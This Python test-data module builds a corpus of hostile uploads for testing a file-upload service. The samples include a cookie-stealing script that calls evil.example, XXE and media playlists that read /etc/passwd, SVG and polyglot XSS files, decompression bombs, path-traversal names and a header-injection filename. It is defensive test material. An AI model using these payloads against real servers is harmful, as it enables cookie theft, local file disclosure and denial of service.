"""Files that somebody would upload to do harm, made on the spot.

`CORPUS` has them all. Each says what it must be taken for: a MIME type where it may be kept as just that (and is then
never given to a browser as anything else), or None where it must be refused. What it must never do, whatever it is
taken for: read a byte that is not its own (`CANARY` stands in for those), or end the process that serves others.
"""

import gzip
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from io import BytesIO
from random import Random
from struct import pack
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image

from tests.data.samples import PDF, film, image, sample

CANARY = "/etc/passwd"
"""What playlists and references point to."""
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"


@dataclass(frozen=True)
class Hostile:
    """One of them. `make` gives its bytes."""

    name: str
    """As a client would call it: any text."""
    make: Callable[[], bytes]
    taken_for: str | None

    def __str__(self) -> str:
        return self.name[:40]


def _box(name: bytes, *parts: bytes) -> bytes:
    """A box of ISO 14496-12 section 4.2."""
    content = b"".join(parts)
    return pack(">I4s", 8 + len(content), name) + content


def _chunk(name: bytes, content: bytes) -> bytes:
    """A chunk of PNG, section 5.3."""
    return pack(">I4s", len(content), name) + content + pack(">I", zlib.crc32(name + content))


def _png(width: int, height: int, *before: bytes, rows: bytes = b"") -> bytes:
    """A PNG in 1-bit grey that claims this size."""
    head = _chunk(b"IHDR", pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + b"".join(before)
        + _chunk(b"IDAT", zlib.compress(rows, 9))
        + _chunk(b"IEND", b"")
    )


def _riff(form: bytes, *parts: bytes) -> bytes:
    content = form + b"".join(parts)
    return b"RIFF" + pack("<I", len(content)) + content


def _riff_chunk(name: bytes, content: bytes) -> bytes:
    return name + pack("<I", len(content)) + content + b"\0" * (len(content) % 2)


def _archive(size: int = 10 << 20) -> bytes:
    """A zip file that grows a thousandfold."""
    file = BytesIO()
    with ZipFile(file, "w", ZIP_DEFLATED) as archive:
        archive.writestr("bomb", bytes(size))
    return file.getvalue()


def _patched(extension: str, old: bytes, new: bytes) -> bytes:
    """A good file with something else in it."""
    good = sample(extension)
    assert old in good
    return good.replace(old, new, 1)


def _after(extension: str, more: bytes) -> bytes:
    return sample(extension) + more


def _half(extension: str) -> bytes:
    return sample(extension)[: len(sample(extension)) // 2]


def _front_index() -> bytes:
    """An MP4 whose index stands at its start, cut off behind it."""
    whole = film("mp4", "libx264", "aac", options={"moov_size": "8000"})
    return whole[: len(whole) * 2 // 3]


def _text_then_binary() -> bytes:
    return b"harmless\n" * 1000 + b"\x7fELF" + bytes(range(256))


def _playlist(*lines: str) -> bytes:
    return "\n".join(lines).encode() + b"\n"


HLS = _playlist("#EXTM3U", "#EXT-X-MEDIA-SEQUENCE:0", "#EXTINF:10.0,", f"file://{CANARY}", "#EXT-X-ENDLIST")


def _gab2() -> bytes:
    """An AVI whose subtitles are a playlist (CVE-2017-9993's family): FFmpeg opened such a track by its content."""
    header = _riff_chunk(b"strh", b"txts" + bytes(52)) + _riff_chunk(b"strf", b"")
    streams = b"hdrl" + _riff_chunk(b"avih", pack("<14I", 40000, 0, 0, 0, 1, 0, 1, 0, 224, 160, 0, 0, 0, 0))
    streams += _riff_chunk(b"LIST", b"strl" + header)
    track = b"GAB2\0\x02\0\0\0\0\0\x04\0" + pack("<I", len(HLS)) + HLS
    return _riff(b"AVI ", _riff_chunk(b"LIST", streams), _riff_chunk(b"LIST", b"movi" + _riff_chunk(b"00tx", track)))


def _reference_movie() -> bytes:
    """A QuickTime file that is only the address of another."""
    url = f"file://{CANARY}".encode() + b"\0"
    data = _box(b"rdrf", bytes(4), b"url ", pack(">I", len(url)), url)
    return _box(b"ftyp", b"qt  ", bytes(4), b"qt  ") + _box(b"moov", _box(b"rmra", _box(b"rmda", data)))


def _elsewhere() -> bytes:
    """A QuickTime file that takes back that its frames are in itself (the flag of its data reference)."""
    return _patched("mov", b"url \x00\x00\x00\x01", b"url \x00\x00\x00\x00")


def _deep(levels: int = 20_000) -> bytes:
    """Boxes in boxes."""
    boxes = (pack(">I4s", 8 * (levels - level), b"moov") for level in range(levels))
    return _box(b"ftyp", b"isom", bytes(4), b"isom") + b"".join(boxes)


def _many_samples() -> bytes:
    """An MP4 whose table says that it has four thousand million samples."""
    good = bytearray(sample("mp4"))
    at = good.index(b"stsz")
    good[at + 12 : at + 16] = b"\xff\xff\xff\xff"
    return bytes(good)


def _endless() -> bytes:
    """An MP4 that says to last for centuries, in its header and in its tracks."""
    good = bytearray(sample("mp4"))
    for name, offset in ((b"mvhd", 16), (b"mdhd", 16)):
        at = good.index(name) + 4 + offset
        good[at : at + 4] = b"\x7f\xff\xff\xff"
    return bytes(good)


def _frames(count: int) -> bytes:
    """A GIF of many frames."""
    pictures = [Image.new("L", (64, 64), number % 256) for number in range(count)]
    file = BytesIO()
    pictures[0].save(file, "GIF", save_all=True, append_images=pictures[1:])
    return file.getvalue()


def _text_bomb() -> bytes:
    """A PNG whose comment grows to 16 MB."""
    comment = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(16 << 20), 9))
    return _png(8, 8, comment, rows=bytes(16))


def _profile_bomb() -> bytes:
    return _png(8, 8, _chunk(b"iCCP", b"icc\0\0" + zlib.compress(bytes(16 << 20), 9)), rows=bytes(16))


def _noise(size: int) -> bytes:
    return Random(1).randbytes(size)


def _always(content: bytes) -> Callable[[], bytes]:
    return lambda: content


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
XML = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'
MPD = b'<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>file:///etc/passwd</BaseURL></MPD>'
LONG = "a" * 4990 + ".png"

MAKERS: dict[str, tuple[Callable[[], bytes], str | None]] = {
    # Lists of other files, under names of films.
    "hls.mp4": (_always(HLS), None),
    "hls-behind-space.mp4": (_always(b"\r\n\t " + HLS), None),
    "hls-behind-a-page.mp4": (_always(b"\n" * 8192 + HLS), "text/plain"),
    "hls-in-utf-16.mp4": (_always(HLS.decode().encode("utf-16")), None),
    "ffconcat.mp4": (_always(_playlist("ffconcat version 1.0", f"file {CANARY}")), None),
    "dash.mp4": (_always(MPD), None),
    "session.mp4": (_always(_playlist("v=0", "o=- 0 0 IN IP4 127.0.0.1", "m=video 1 RTP/AVP 96")), None),
    "playlist.mp3": (_always(_playlist("[playlist]", f"File1={CANARY}")), None),
    "metadata.mp4": (_always(_playlist(";FFMETADATA1", f"title={CANARY}")), None),
    "subtitles.avi": (_gab2, None),
    "reference.mov": (_reference_movie, None),
    "elsewhere.mov": (_elsewhere, "video/quicktime"),
    # Pages and programs.
    "page.jpg": (_always(b"<!DOCTYPE html>" + SCRIPT), None),
    "page-behind-space.txt": (_always(b" \n\t<HTML>" + SCRIPT), None),
    "page-in-utf-16.txt": (_always(("<html>" + SCRIPT.decode()).encode("utf-16-le")), None),
    "page-with-mark.txt": (_always(b"\xef\xbb\xbf" + SCRIPT), None),
    "comment.txt": (_always(b"<!-- -->" + SCRIPT), None),
    "script.svg": (_always(SVG), None),
    "script-as-png.png": (_always(b"\xef\xbb\xbf<?xml version='1.0'?>" + SVG), None),
    "script.svgz": (lambda: gzip.compress(SVG), None),
    "entities.txt": (_always(XML), None),
    "program.txt": (_always(b"alert(document.cookie)\n"), "text/plain"),
    "program.mp4": (lambda: b"\x7fELF\x02\x01\x01" + bytes(9) + _noise(4000), None),
    "program.jpg": (lambda: b"MZ" + _noise(4000), None),
    # Two things at once: the first bytes decide, and what follows must be that too.
    "gif-and-script.gif": (_always(b"GIF89a/*" + bytes(8) + b"*/=1;alert(1)//"), None),
    "bmp-and-script.bmp": (_always(b"BM/*" + bytes(64) + b"*/=1;alert(1)//"), None),
    "gif-and-archive.gif": (lambda: _after("gif", _archive(1000)), "image/gif"),
    "jpg-and-page.jpg": (lambda: _after("jpg", SCRIPT), "image/jpeg"),
    "jpg-with-page.jpg": (lambda: image("JPEG", comment=SCRIPT), "image/jpeg"),
    "png-with-page.png": (lambda: _png(8, 8, _chunk(b"tEXt", b"Comment\0" + SCRIPT), rows=bytes(16)), "image/png"),
    "pdf-and-page.pdf": (lambda: b"%PDF-1.7\n" + SCRIPT, None),
    "page-and-pdf.pdf": (lambda: b"<html>" + SCRIPT + PDF, None),
    "pdf-and-archive.pdf": (lambda: PDF[:-6] + _archive(1000) + b"\nstartxref\n162\n%%EOF\n", "application/pdf"),
    "mp4-and-page.mp4": (lambda: _box(b"ftyp", b"isom", bytes(4), b"isom") + SCRIPT, None),
    "wav-and-page.wav": (lambda: _riff(b"WAVE", SCRIPT), None),
    "webp-and-page.webp": (lambda: _riff(b"WEBP", b"VP8 ", SCRIPT), None),
    "mp3-and-page.mp3": (_always(b"ID3\x04\0\0\0\0\0\0" + SCRIPT), None),
    "webm-and-page.webm": (_always(b"\x1aE\xdf\xa3\x93B\x82\x84webm" + SCRIPT), None),
    "ogg-and-page.ogg": (_always(b"OggS\0\x02" + bytes(21) + SCRIPT), None),
    "text-and-program.txt": (_text_then_binary, None),
    # Cut off.
    "empty.mp4": (_always(b""), None),
    "one-byte.mp3": (_always(b"\0"), None),
    "half.mp4": (partial(_half, "mp4"), None),
    "half-behind-index.mp4": (_front_index, None),
    "half.webm": (partial(_half, "webm"), "video/webm"),
    "half.jpg": (partial(_half, "jpg"), None),
    "half.png": (partial(_half, "png"), None),
    "half.gif": (partial(_half, "gif"), None),
    "half.webp": (partial(_half, "webp"), None),
    "half.bmp": (partial(_half, "bmp"), None),
    "half.pdf": (partial(_half, "pdf"), None),
    # Small outside, large inside.
    "bomb.mp4": (_archive, None),
    "bomb.txt": (lambda: gzip.compress(bytes(10 << 20)), None),
    "smallest.png": (lambda: _png(1, 1, rows=bytes(2)), "image/png"),
    "16k.png": (lambda: _png(15_360, 8_640, rows=bytes(1921 * 8_640)), "image/png"),
    "larger.png": (lambda: _png(16_384, 16_384, rows=bytes(2049 * 16_384)), None),
    "largest.png": (lambda: _png(2**31 - 1, 2**31 - 1), None),
    "comment.png": (_text_bomb, None),
    "profile.png": (_profile_bomb, None),
    "screen.gif": (lambda: b"GIF89a" + pack("<HH", 65_535, 65_535) + sample("gif")[10:], None),
    "negative.bmp": (lambda: sample("bmp")[:18] + pack("<ii", -(2**31), -(2**31)) + sample("bmp")[26:], None),
    "claims.jpg": (lambda: _patched("jpg", pack(">HH", 64, 96), pack(">HH", 65_500, 65_500)), None),
    "frames.gif": (partial(_frames, 300), "image/gif"),
    "deep.mp4": (_deep, None),
    "samples.mp4": (_many_samples, None),
    "endless.mp4": (_endless, "video/mp4"),
    "tag.mp3": (lambda: b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + sample("mp3"), None),
    "claims.wav": (lambda: _patched("wav", b"data", b"data\xff\xff\xff\xff")[:-4], "audio/wav"),
    "noise.mp4": (lambda: _box(b"ftyp", b"isom", bytes(4), b"isom") + _noise(100_000), None),
    "noise.mp3": (lambda: b"\xff\xfb\x90\x64" + _noise(100_000), None),
    "nothing.mp4": (_always(bytes(1 << 20)), None),
    # Names.
    "../../../../etc/cron.d/job.png": (partial(sample, "png"), "image/png"),
    "..\\..\\windows\\system32\\a.png": (partial(sample, "png"), "image/png"),
    LONG: (partial(sample, "png"), "image/png"),
    'a"\r\nSet-Cookie: x=1\r\n.png': (partial(sample, "png"), "image/png"),
    "\u202egnp.exe": (partial(sample, "png"), "image/png"),
    "a\0b.png": (partial(sample, "png"), "image/png"),
}

CORPUS = tuple(Hostile(name, make, taken_for) for name, (make, taken_for) in MAKERS.items())
